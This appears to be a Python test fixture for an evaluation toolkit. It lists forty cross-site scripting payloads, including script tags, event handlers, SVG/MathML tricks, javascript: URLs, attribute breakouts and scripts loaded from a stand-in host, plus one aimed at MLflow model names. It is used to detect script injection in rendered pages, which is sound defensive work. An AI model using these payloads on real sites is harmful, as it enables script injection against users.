"""Forty attempts to run a script from what a model, a user or a file says.

Each leaves a trace where it comes through: scripts that run call `mark`, and elements that a payload made carry the
attribute `data-planted`, so that one which only the security policy stopped is seen as well.
"""

from __future__ import annotations

CALL = "(window.planted=(window.planted||[])).push({n}),document.title='planted'"
_FORMS = (
    "<script data-planted>{call}</script>",
    "<ScRiPt data-planted>{call}</sCrIpT >",
    "<script data-planted src=/evalkit/planted.js></script>",
    "<script data-planted src=//planted.test/x.js></script>",
    "</script><script data-planted>{call}</script>",
    "<scr<script>ipt data-planted>{call}</scr</script>ipt>",
    "<img data-planted src=x onerror={call}>",
    '"><img data-planted src=x onerror="{call}">',
    '\'><img data-planted src=x onerror="{call}">',
    "</title><img data-planted src=x onerror={call}>",
    "</textarea><img data-planted src=x onerror={call}>",
    "</code></pre><img data-planted src=x onerror={call}>",
    "</style><img data-planted src=x onerror={call}>",
    "--><img data-planted src=x onerror={call}><!--",
    "]]><img data-planted src=x onerror={call}>",
    "<svg data-planted onload={call}>",
    "<svg data-planted><script>{call}</script></svg>",
    "<svg data-planted><animate onbegin={call} attributeName=x dur=1s>",
    "<svg data-planted><foreignObject><img src=x onerror={call}></foreignObject></svg>",
    "<math data-planted><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<body data-planted onload={call}>",
    "<details data-planted open ontoggle={call}><summary>x</summary></details>",
    "<video data-planted><source onerror={call}></video>",
    "<audio data-planted src=x onerror={call}>",
    "<input data-planted autofocus onfocus={call}>",
    "<select data-planted autofocus onfocus={call}>",
    "<marquee data-planted onstart={call}>x</marquee>",
    '<iframe data-planted src="javascript:{call}"></iframe>',
    '<iframe data-planted srcdoc="<script>parent.document.title=1</script>"></iframe>',
    '<object data-planted data="javascript:{call}"></object>',
    '<embed data-planted src="data:text/html,<script>{call}</script>">',
    '<a data-planted href="javascript:{call}">x</a>',
    "[x](javascript:{call})",
    "javascript:{call}",
    '" onmouseover="{call}" data-planted="',
    "' autofocus onfocus='{call}' data-planted='",
    '<meta data-planted http-equiv=refresh content="0;url=javascript:{call}">',
    "<base data-planted href=//planted.test/><link data-planted rel=stylesheet href=//planted.test/x.css>",
    "<style data-planted>@import '//planted.test/x.css';*{{display:none}}</style>",
    "{{{{''.__class__.__mro__}}}}${{{call}}}<img data-planted src=x onerror={call}>\u2028\u202e\x00",
)
PAYLOADS = tuple(f"p{n:02} " + form.format(call=CALL.format(n=n)) for n, form in enumerate(_FORMS, 1))
"""Each begins with its number, so that a page that shows it can be told from one that swallowed it."""

NAME = "bot <img data-planted src=x onerror=planted()>"
"""A payload that MLflow takes as a model's name."""
